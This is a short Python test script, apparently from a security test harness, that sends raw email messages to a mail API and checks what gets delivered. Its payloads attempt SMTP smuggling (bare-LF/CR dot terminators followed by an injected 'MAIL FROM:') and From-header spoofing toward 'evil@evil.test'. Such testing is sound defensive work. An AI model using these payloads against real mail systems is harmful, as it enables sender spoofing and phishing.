import sys, base64; sys.path.insert(0,'/tmp/attack28')
exec(open('/tmp/attack28/t7.py').read().split('tests = [')[0])
F = 'From: a@acme.test\r\n'
before = sinkcount()
for name, msg in [('raw-barelf', F + 'Subject: r\r\n\r\na\n.\nMAIL FROM:<x@y>\n'), ('raw-barecr', F + 'Subject: r\r\n\r\na\r.\rb\r\n'), ('raw-dot', F + 'Subject: r\r\n\r\na\r\n.\r\nMAIL FROM:<x@y>\r\n'), ('raw-nul', F + 'Subject: r\r\n\r\na\u0000b\r\n'), ('raw-from-lead-ws', ' From: evil@evil.test\r\n' + F + 'Subject: r\r\n\r\nx\r\n'), ('raw-hdr-only', F + 'Subject: r'), ('raw-lf-only-hdr', 'From: a@acme.test\nFrom: evil@evil.test\n\nx\n'), ('raw-cr-hdr', 'From: a@acme.test\rFrom: evil@evil.test\r\n\r\nx\r\n'), ('raw-fold-from', 'From: a@acme.test,\r\n evil@evil.test\r\n\r\nx\r\n'), ('raw-sender', F + 'Sender: evil@evil.test\r\n\r\nx\r\n'), ('raw-from-comment', 'From: a@acme.test (x) <evil@evil.test>\r\n\r\nx\r\n'), ('raw-from-group', 'From: g: evil@evil.test;\r\n\r\nx\r\n')]:
    st, txt, _ = post('/v1/messages/raw', {'envelope': {'from': 'a@acme.test', 'to': ['bob@dest.test']}, 'message': msg})
    print(name, st, txt[:130])
time.sleep(4)
for m in newmsgs(before, wait=1, want=0):
    u = unstuff(m); i = u.find(b'\r\n\r\n'); print('delivered body:', u[i:i+60], b'evil' in u)
